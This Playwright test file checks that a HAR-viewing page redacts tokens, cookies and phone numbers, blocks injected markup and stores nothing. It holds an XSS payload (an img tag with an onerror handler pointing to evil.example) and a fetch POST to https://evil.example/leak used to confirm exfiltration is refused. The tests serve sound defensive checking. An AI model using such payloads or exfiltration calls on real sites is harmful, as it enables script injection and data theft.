import { expect, type Page } from '@playwright/test';
import { examples } from '../../packages/api-client/src/generated/examples.ts';
import { test as storybookTest } from '../screenshots/storybook-fixture.ts';
import { collectConsoleMessages, findAxeViolations } from './page-checks.ts';

/** A busy machine is slow. */
const expectWithLongTimeout = expect.configure({ timeout: 30_000 });

const SECRETS = ['eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.c2ln', 'jan_3f0b6c1d9e', 'sid-cookie-1', '9822233344'];
const [jwt, token, cookie, phone] = SECRETS;
const MARKUP = '<img src="https://evil.example/a.png" onerror="document.title = \'run\'">';

const session = examples.getSession.responses['200'].openSession;
const createEntry = (method: string, path: string, body: unknown, status = 200) => ({
  request: {
    method,
    url: `https://backend.example/api${path}`,
    headers: [
      { name: 'Authorization', value: `Bearer ${jwt}` },
      { name: 'Cookie', value: cookie },
    ],
    postData: { text: JSON.stringify({ idToken: jwt, phone }) },
  },
  response: { status, headers: [], content: { text: JSON.stringify(body) } },
});
const har = JSON.stringify({
  log: {
    entries: [
      createEntry('POST', '/user/auth/check-phone', {
        success: false,
        message: `${phone} ${MARKUP}`,
        data: null,
      }),
      createEntry('POST', '/user/auth/verify-firebase-token', {
        data: { user: { ...examples.logIn.responses['200'].returningUser.data.user, phone }, token },
      }),
      createEntry('GET', '/user/sessions/preparing-for-labour', {
        ...session,
        data: {
          ...session.data,
          title: MARKUP,
          duration: MARKUP,
          image: 'https://evil.example/b.png',
          description: `Call ${phone}, ${jwt}`,
        },
      }),
    ],
  },
});

/** The desk, opened. A request outside of its folder fails the test. */
const test = storybookTest.extend<{ desk: Page }>({
  desk: async ({ page, origin }, provide) => {
    const outside = new Set<string>();
    page.on('request', (request) => {
      const url = request.url();
      // `serveStorybook` adds fonts.
      const isOwnFile = url.startsWith(`${origin}/playground/`) || url.endsWith('-wght-normal.woff2');
      if (!url.startsWith('data:') && (request.method() !== 'GET' || !isOwnFile)) outside.add(url);
    });
    // What the policy blocks is reported as a request, and is not sent.
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText === 'csp') outside.delete(request.url());
    });
    await page.goto(`${origin}/playground/desk.html`);
    await provide(page);
    expect([...outside]).toEqual([]);
  },
});

const chooseHar = (page: Page, text: string) =>
  page
    .locator('input[type="file"]')
    .setInputFiles({ name: 'app.har', mimeType: 'application/json', buffer: Buffer.from(text) });

/** Everything that the page and its screen show or hold. */
const readEverything = async (page: Page) =>
  Promise.all(
    page
      .frames()
      .map((frame) =>
        frame.evaluate(async () =>
          JSON.stringify([
            document.documentElement.outerHTML,
            [...document.querySelectorAll('textarea, input')].map(
              (field) => (field as HTMLInputElement).value,
            ),
            Object.entries(localStorage),
            Object.entries(sessionStorage),
            document.cookie,
            window.name,
            window.location.href,
          ]),
        ),
      ),
  );

test('a HAR with tokens, phones and markup: its verdict and its screen, and nothing of it leaves or stays', async ({
  desk: page,
}) => {
  await chooseHar(page, har);
  await expect(page.getByRole('status').first()).toHaveText(
    'Calls that hold: 2; that do not: 1; that are not here: 6.',
  );
  const call = page.getByRole('listitem').filter({ has: page.getByRole('heading', { name: 'getSession' }) });
  await expect(call.getByText('$.data.duration', { exact: true })).toBeVisible();
  await call.getByRole('button', { name: 'Show the screen' }).click();
  const screen = page.frameLocator('iframe');
  await expectWithLongTimeout(screen.getByRole('heading', { level: 1 })).toHaveText(MARKUP);

  const everything = (await readEverything(page)).join('\n');
  expect(everything).toContain('STRUCK-OUT');
  expect(SECRETS.filter((secret) => everything.includes(secret))).toEqual([]);
  expect(await page.title()).not.toBe('run');
  expect(await page.locator('main img').count()).toBe(0);

  const stored = await page.evaluate(async () => [
    localStorage.length + sessionStorage.length,
    (await indexedDB.databases()).length,
    (await caches.keys()).length,
    (await navigator.serviceWorker.getRegistrations()).length,
  ]);
  expect(stored).toEqual([0, 0, 0, 0]);
  for (const frame of page.frames())
    expect(
      await frame.evaluate(async () => {
        const send = (url: string) =>
          fetch(url, { method: 'POST', body: 'x' }).then(
            () => 'sent',
            () => 'refused',
          );
        return [await send('/playground/leak'), await send('https://evil.example/leak')];
      }),
    ).toEqual(['refused', 'refused']);
});

test('a response is shown on the screen of its call', async ({ desk: page }) => {
  const { upcoming } = examples.listSessions.responses['200'];
  const answers = [
    { body: { success: true, message: 'Checked', data: { exists: true } }, text: 'Enter the code' },
    { body: examples.listStates.responses['200'].india, text: 'Tamil Nadu' },
    { body: { ...upcoming, data: [{ ...upcoming.data[1], title: 'Only here' }] }, text: 'Only here' },
    { body: examples.enrollInSession.responses['200'].openSession, text: 'Your place is kept' },
  ];
  for (const { body, text } of answers) {
    await page.getByLabel('Or a response').fill(JSON.stringify(body));
    await page.getByRole('button', { name: 'Check' }).click();
    await page.getByRole('button', { name: 'Show the screen' }).click();
    await expectWithLongTimeout(page.frameLocator('iframe').getByText(text).first()).toBeVisible();
  }
});

test('what is pasted is struck out, what cannot be read is explained, and what was typed stays', async ({
  desk: page,
}) => {
  const answer = page.getByLabel('Or a response');
  await answer.fill(`{"token": "${token}", "data": [1 2]`);
  await page.getByRole('button', { name: 'Check' }).click();
  await expect(answer).toBeFocused();
  await expect(answer).toHaveAccessibleDescription(/This is not JSON\./);
  await expect(answer).toHaveValue('{"token": "STRUCK-OUT", "data": [1 2]');
  await answer.fill(har);
  expect(
    (await readEverything(page)).filter((text) => SECRETS.some((secret) => text.includes(secret))),
  ).toEqual([]);
  await page.getByRole('button', { name: 'Check' }).click();
  await expect(page.getByRole('status').first()).toContainText('that do not: 1');
});

test('a HAR of almost 10 MB is checked, and a larger one is refused', async ({ desk: page }) => {
  const { upcoming } = examples.listSessions.responses['200'];
  const data = Array.from({ length: 18_000 }, () => ({ ...upcoming.data[0], duration: '45' }));
  const entry = createEntry('GET', '/user/sessions?limit=12', { ...upcoming, data });
  const large = JSON.stringify({ log: { entries: [entry] } });
  expect(large.length).toBeGreaterThan(9_000_000);
  await chooseHar(page, large);
  await expectWithLongTimeout(page.getByText('and so in 17999 more').first()).toBeVisible();
  await chooseHar(page, large + large);
  await expect(page.getByText(/is larger than/).last()).toBeVisible();
});

for (const colorScheme of ['light', 'dark'] as const)
  for (const width of [320, 1280])
    test(`the desk, ${colorScheme}, ${width} px: logs nothing, has no axe violation, fits the screen`, async ({
      desk: page,
    }) => {
      await page.emulateMedia({ colorScheme });
      await page.setViewportSize({ width, height: 800 });
      const consoleMessages = collectConsoleMessages(page);
      await page.reload();
      await page.getByRole('button', { name: 'Try an example' }).click();
      await expect(page.getByText('$.data[0].duration')).toBeVisible();
      expect(await findAxeViolations(page.mainFrame())).toEqual([]);
      expect(
        await page.evaluate(() => document.documentElement.scrollWidth - innerWidth),
      ).toBeLessThanOrEqual(0);
      expect(consoleMessages).toEqual([]);
    });
